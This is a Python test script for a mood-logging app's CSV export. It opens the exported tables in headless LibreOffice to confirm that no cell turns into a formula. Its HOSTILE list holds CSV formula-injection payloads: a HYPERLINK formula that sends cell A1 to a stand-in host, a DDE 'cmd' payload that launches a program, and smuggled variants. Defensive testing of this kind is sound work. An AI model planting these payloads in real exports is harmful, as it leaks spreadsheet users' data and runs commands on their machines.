#!/usr/bin/env python3
"""The tables as LibreOffice opens them: `csv_open.py PATH_TO_HOLDFAST_BINARY`.

Logs moods with hostile notes and tags, exports the tables, and has LibreOffice (headless) open the table of moods: split
at commas, and at semicolons and tabs as a spreadsheet for another country does. With commas every text must be there; in
no case may a cell be a formula. A table without the guard shows that the check can fail.
"""

import csv
import io
import os
import subprocess
import sys
import tempfile
import zipfile
from pathlib import Path

import openpyxl

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?"&A1,"open")',
    "+1",
    "-2+3|cmd",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "a\tb\t=1+1",
    "a\n=1+1",
    "a\r\n+1+1",
    "a;=1+1",
    'a;"=1+1";b',
    'a"";=1+1',
    "  =1+1",
    "＝1+1",
    "it's; - a list\n- of things",
    "Ä, ö and ẞ: 2 - 1 = 1",
    '"quoted", with a comma',
    "'=1+1",
]
# The separators, as character codes for LibreOffice. 34 is the quotation mark, 76 means UTF-8.
PARTED_BY = {"comma": "44", "semicolon": "59", "tab": "9", "comma, semicolon or tab": "44/59/9"}


def run(binary, folder, *args):
    env = {"HOME": folder, "LANG": "en_GB.UTF-8", "HOLDFAST_KEYRING": "off",
           "HOLDFAST_NOW": "2026-05-22T09:00:00+02:00[Europe/Berlin]", "PATH": os.environ.get("PATH", "")}
    done = subprocess.run([binary, *args], env=env, cwd=folder, stdin=subprocess.DEVNULL, capture_output=True,
                          text=True, check=False)
    assert done.returncode == 0, f"{args[0]}: {done.stderr}"


def opened(table, parted_by, folder):
    """The cells of a table in LibreOffice, with formulas marked."""
    out = Path(folder) / "opened"
    out.mkdir(exist_ok=True)
    # After the language: "quoted cells as text" off, "detect special numbers" on, the least safe settings.
    read = f"--infilter=CSV:{parted_by},34,76,1,,1033,false,true"
    subprocess.run(["soffice", f"-env:UserInstallation=file://{folder}/office", "--headless", read, "--convert-to",
                    "xlsx", "--outdir", str(out), str(table)], check=True, capture_output=True, timeout=300)
    sheet = openpyxl.load_workbook(out / f"{Path(table).stem}.xlsx").active
    return [[cell for cell in row] for row in sheet.iter_rows()]


def formulas(rows):
    return [str(cell.value) for row in rows for cell in row if cell.data_type == "f"]


def unguarded(text):
    return text.replace("'", "").replace("\r\n", "\n")


def main(binary):
    failed = 0

    def case(name, holds, why=""):
        nonlocal failed
        failed += not holds
        print(f"ok {name}" if holds else f"FAILED {name}: {why}")

    with tempfile.TemporaryDirectory() as folder:
        for note in HOSTILE:
            tag = note.replace("\t", " ").replace("\r", " ").replace("\n", " ").strip()[:30]
            run(binary, folder, "log", "3", f"--note={note}", f"--tag={tag}")
        run(binary, folder, "export", "--format", "csv", "--plain", "--out", "tables.zip")
        with zipfile.ZipFile(Path(folder) / "tables.zip") as tables:
            case("the ZIP file is sound", tables.testzip() is None)
            names = sorted(tables.namelist())
            text = tables.read("moods.csv").decode("utf-8")
            tables.extractall(folder)
        case("a table for each kind", len(names) == 10 and all(name.endswith(".csv") for name in names), names)
        case("a byte order mark and the line ends of RFC 4180", text.startswith("\ufeff") and text.endswith("\r\n"))
        notes = [row["note"] for row in csv.DictReader(io.StringIO(text.lstrip("\ufeff"), newline=""))]
        table = Path(folder) / "moods.csv"
        for name, parted_by in PARTED_BY.items():
            rows = opened(table, parted_by, folder)
            case(f"no formula, parted by {name}", not formulas(rows), formulas(rows))
            if name != "comma":
                continue
            heads = [cell.value for cell in rows[0]]
            column = heads.index("note")
            found = [str(row[column].value or "") for row in rows[1:]]
            same = [unguarded(a) == unguarded(b) for a, b in zip(found, notes)]
            case("every text is there", len(found) == len(HOSTILE) and all(same), list(zip(found, notes)))
        for name in names:
            rows = opened(Path(folder) / name, "44", folder)
            case(f"{name} opens", len(rows) >= 1 and rows[0][0].value == "day" and not formulas(rows))
        # The same table without its guards, to show that the check can fail.
        bare = Path(folder) / "bare.csv"
        bare.write_text(text.replace("'", ""), encoding="utf-8")
        for name, parted_by in PARTED_BY.items():
            case(f"a formula would be seen, parted by {name}", formulas(opened(bare, parted_by, folder)))
    return 1 if failed else 0


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit(__doc__)
    sys.exit(main(os.path.abspath(sys.argv[1])))
